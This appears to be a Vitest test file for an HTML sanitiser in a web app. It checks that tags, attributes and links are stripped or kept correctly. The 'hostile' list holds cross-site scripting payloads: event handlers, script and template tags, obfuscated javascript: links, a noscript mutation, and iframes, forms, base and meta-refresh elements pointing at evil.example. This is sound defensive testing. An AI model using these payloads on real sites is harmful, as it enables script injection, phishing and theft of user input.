import { describe, expect, test } from "vitest";
import {
  describeVector,
  hostileVectors,
  reportedVectors,
} from "../../tests/e2e/fixtures/hostile-html";
import { looksLikeHtml, sanitizeHtml } from "./html";

const allowedTags = new Set(
  "A B BLOCKQUOTE BR CODE DEL DIV EM HR I LI OL P PRE S SMALL SPAN STRONG SUB SUP U UL".split(" "),
);

function parse(html: string): HTMLElement {
  const container = document.createElement("div");
  container.innerHTML = html;
  return container;
}

/** What every sanitised fragment must satisfy, whatever went in. */
function expectHarmless(html: string) {
  for (const element of parse(html).querySelectorAll("*")) {
    expect(allowedTags.has(element.tagName), `<${element.tagName}> survived`).toBe(true);
    for (const { name, value } of element.attributes) {
      expect(name.startsWith("on"), `${name} survived`).toBe(false);
      expect(["style", "class", "id", "src", "srcdoc", "action", "formaction"]).not.toContain(name);
      if (name === "href") expect(value).toMatch(/^(https?:|mailto:|tel:|\/|#|[^:]*$)/i);
    }
  }
}

const forbiddenTags = new Set(
  "BASE FORM INPUT BUTTON IMG VIDEO AUDIO PICTURE SOURCE TRACK IFRAME OBJECT EMBED STYLE".split(
    " ",
  ),
);
const allowedHref = /^(?:https?:\/\/|mailto:|tel:)/i;

/** Stricter than expectHarmless: no media or forms at all, and links only to the web, mail or phone. */
function expectOnlyTextAndLinks(html: string) {
  for (const element of parse(html).querySelectorAll("*")) {
    expect(forbiddenTags.has(element.tagName), `<${element.tagName}> survived`).toBe(false);
    expect(element.namespaceURI).toBe("http://www.w3.org/1999/xhtml");
    for (const { name, value } of element.attributes) {
      expect(/^on/i.test(name), `${name} survived`).toBe(false);
      expect(["style", "class", "id"], `${name} survived`).not.toContain(name);
      if (name === "href") expect(value.trim()).toMatch(allowedHref);
    }
  }
}

const hostile: Array<[name: string, html: string]> = [
  ["an image with onerror", `<img src=x onerror="window.__xss=1">`],
  ["a script element", `<script>window.__xss=1</script>`],
  ["a javascript: link", `<a href="javascript:window.__xss=1">Click</a>`],
  ["a mixed-case javascript: link", `<a href="JaVaScRiPt:window.__xss=1">Click</a>`],
  ["a javascript: link hidden by entities", `<a href="jav&#x09;ascript:window.__xss=1">x</a>`],
  ["a javascript: link written as a numeric entity", `<a href="&#106;avascript:alert(1)">x</a>`],
  ["a vbscript: link", `<a href="vbscript:msgbox(1)">x</a>`],
  ["a data: link", `<a href="data:text/html,<script>window.__xss=1</script>">x</a>`],
  ["a fixed-position overlay", `<div style="position:fixed;inset:0;z-index:9999">Gotcha</div>`],
  ["the site's own utility classes", `<div class="fixed inset-0 z-50 bg-brand">Gotcha</div>`],
  ["an id that shadows the page", `<p id="main-content">x</p>`],
  ["a style element", `<style>body{display:none}</style><p>x</p>`],
  ["an iframe", `<iframe src="https://evil.example/"></iframe>`],
  ["an object", `<object data="https://evil.example/x.swf"></object>`],
  ["an embed", `<embed src="https://evil.example/x.swf">`],
  ["a form", `<form action="https://evil.example/"><input name="card"><button>Pay</button></form>`],
  ["an svg with onload", `<svg onload="window.__xss=1"><circle r="4"/></svg>`],
  ["MathML", `<math><mtext><img src=x onerror="window.__xss=1"></mtext></math>`],
  ["an event handler on an allowed tag", `<p onclick="window.__xss=1" onmouseover="x()">Hi</p>`],
  ["a details ontoggle", `<details open ontoggle="window.__xss=1"><summary>x</summary></details>`],
  ["a meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.example/">`],
  ["a base element", `<base href="https://evil.example/">`],
  ["a stylesheet link", `<link rel="stylesheet" href="https://evil.example/x.css">`],
  ["a template holding a script", `<template><script>window.__xss=1</script></template>`],
  [
    "a noscript mutation",
    `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  ],
  ["a video with onerror", `<video><source onerror="window.__xss=1"></video>`],
  ["a body with onload", `<body onload="window.__xss=1">x</body>`],
  ["a link with formaction", `<button formaction="javascript:alert(1)">x</button>`],
];

describe("sanitizeHtml", () => {
  test.each(hostile)("defuses %s", (_name, html) => {
    const clean = sanitizeHtml(html);
    expectHarmless(clean);
    expect(clean).not.toMatch(/<script|onerror|onload|onclick|javascript:|position:\s*fixed/i);
  });

  test("never hands the markup to DOMParser, whose document carries the page's security policy", () => {
    const parsed: string[] = [];
    const original = DOMParser.prototype.parseFromString;
    DOMParser.prototype.parseFromString = function (source, type) {
      parsed.push(String(source));
      return original.call(this, source, type);
    };
    try {
      sanitizeHtml(`<img src=x onerror="a()"><p title='x' onclick=b()>Hi</p><svg/onload=c()>`);
    } finally {
      DOMParser.prototype.parseFromString = original;
    }
    expect(parsed.join("")).not.toMatch(/[\s"'/]on[a-z]+\s*=/i);
    expect(parsed).toEqual([]);
  });

  test.each(reportedVectors)("defuses the reported $name", ({ html }) => {
    const clean = sanitizeHtml(html);
    expectHarmless(clean);
    expectOnlyTextAndLinks(clean);
  });

  test("keeps the words and title of the reported link but none of its handlers", () => {
    expect(sanitizeHtml(`<a title="a>b" onmouseover="alert(1)">hover me</a>`)).toBe(
      `<a title="a&gt;b">hover me</a>`,
    );
  });

  test.each([
    "/camps",
    "#top",
    "",
    "//evil.example/",
    "camps.html",
    "https:evil.example",
    "ftp://x",
  ])("drops the href %j, which is not an absolute web, mail or phone link", (href) => {
    const link = parse(sanitizeHtml(`<a href="${href}">More</a>`)).querySelector("a");
    expect(link?.hasAttribute("href")).toBe(false);
    expect(link?.hasAttribute("target")).toBe(false);
    expect(link?.textContent).toBe("More");
  });

  test("keeps words that merely start with on", () => {
    expect(sanitizeHtml("<p>Bring one lunch; online forms open at 8.</p>")).toBe(
      "<p>Bring one lunch; online forms open at 8.</p>",
    );
  });

  test("keeps the text of a defused element", () => {
    expect(sanitizeHtml(`<div style="position:fixed">Bring a hat</div>`)).toBe(
      "<div>Bring a hat</div>",
    );
  });

  test("keeps the words of a heading but not the heading, so the page outline stays intact", () => {
    expect(sanitizeHtml("<h1>Big news</h1>")).toBe("Big news");
  });

  test("keeps ordinary formatting as it is", () => {
    const html = "<p><strong>Bring</strong> a <em>hat</em>.</p><ul><li>Snacks</li></ul>";
    expect(sanitizeHtml(html)).toBe(html);
  });

  test.each([
    ["https://example.org/camp", "https://example.org/camp"],
    ["mailto:camp@example.org", "mailto:camp@example.org"],
    ["tel:+19165550100", "tel:+19165550100"],
  ])("opens the link %s in a new tab without handing over the page", (href, kept) => {
    const link = parse(sanitizeHtml(`<a href="${href}" target="_self">More</a>`)).querySelector(
      "a",
    );
    expect(link?.getAttribute("href")).toBe(kept);
    expect(link?.getAttribute("target")).toBe("_blank");
    expect(link?.getAttribute("rel")).toBe("noopener noreferrer");
  });

  test("drops the address of a javascript: link but keeps its words", () => {
    const link = parse(sanitizeHtml(`<a href="javascript:alert(1)">Click</a>`)).querySelector("a");
    expect(link?.hasAttribute("href")).toBe(false);
    expect(link?.textContent).toBe("Click");
  });

  test("gives plain text back as the same text", () => {
    expect(parse(sanitizeHtml("Ages 5 & up <3")).textContent).toBe("Ages 5 & up <3");
  });

  test("leaves an empty string empty", () => {
    expect(sanitizeHtml("")).toBe("");
  });
});

describe("sanitizeHtml over the hostile corpus", () => {
  test("has at least 500 distinct vectors", () => {
    expect(new Set(hostileVectors.map((vector) => vector.html)).size).toBe(hostileVectors.length);
    expect(hostileVectors.length).toBeGreaterThanOrEqual(500);
  });

  test.each(hostileVectors.map((vector) => [describeVector(vector), vector.html]))(
    "defuses %s",
    (_name, html) => {
      const clean = sanitizeHtml(html);
      expectHarmless(clean);
      expectOnlyTextAndLinks(clean);
    },
  );
});

describe("looksLikeHtml", () => {
  test.each([
    ["Doors open at 6.\nBring a chair.", false],
    ["2 < 3 and 5 > 4", false],
    ["Line one<br>Line two", true],
    ["<p>Paragraph</p>", true],
    ["Tom &amp; Jerry", true],
  ])("says %j is HTML: %s", (text, expected) => {
    expect(looksLikeHtml(text)).toBe(expected);
  });
});
